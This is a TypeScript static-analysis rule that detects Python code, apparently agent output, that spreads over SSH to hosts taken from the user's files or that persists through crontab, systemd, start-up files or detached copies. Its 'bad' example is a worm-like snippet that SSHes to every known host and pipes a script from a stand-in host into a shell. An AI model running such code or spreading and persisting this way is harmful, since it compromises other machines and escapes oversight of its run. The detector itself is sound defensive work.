import type { Rule } from '../rule';
import type { PyFacts } from '../python/facts';
import { describeOrigin, effectFindings, lineRef } from './py-common';

export const rule: Rule<PyFacts> = {
  meta: {
    id: 'py-spread-persist',
    language: 'python',
    category: 'recursive-spawning',
    severity: 'error',
    title: 'Program spreads to other hosts or makes itself persistent',
    explanation:
      'The program connects to hosts it reads from your SSH files or shell history (ssh, paramiko, fabric), or installs itself or model output where it runs ' +
      'again: crontab, shell start-up files, systemd units, autostart entries, a detached copy of itself. That is how an agent outlives the run and leaves your machine.',
    example: {
      bad: 'import os, subprocess\nfor line in open(os.path.expanduser("~/.ssh/known_hosts")):\n    host = line.split()[0]\n    subprocess.run(["ssh", host, "curl -s https://x.example/a.sh | sh"])\n',
      good: 'import subprocess\nsubprocess.run(["ssh", "deploy@build-01.internal", "systemctl restart app"])\n',
    },
  },
  check({ facts }) {
    return effectFindings(
      facts,
      ['spread', 'persist'],
      (e, t) =>
        e.kind === 'spread'
          ? `${e.label} (${lineRef(e.range)}) connects to ${describeOrigin(t, e.range)}: the program spreads to hosts it was never given`
          : e.label.includes('of the program itself')
            ? `${e.label} (${lineRef(e.range)}) starts a copy of the program that outlives this run and can do the same`
            : `${e.label} (${lineRef(e.range)}) persists ${describeOrigin(t, e.range)} so it runs again later`,
      (e) => (e.kind === 'spread' ? `connects here with ${e.label}` : `persisted here by ${e.label}`),
    );
  },
};
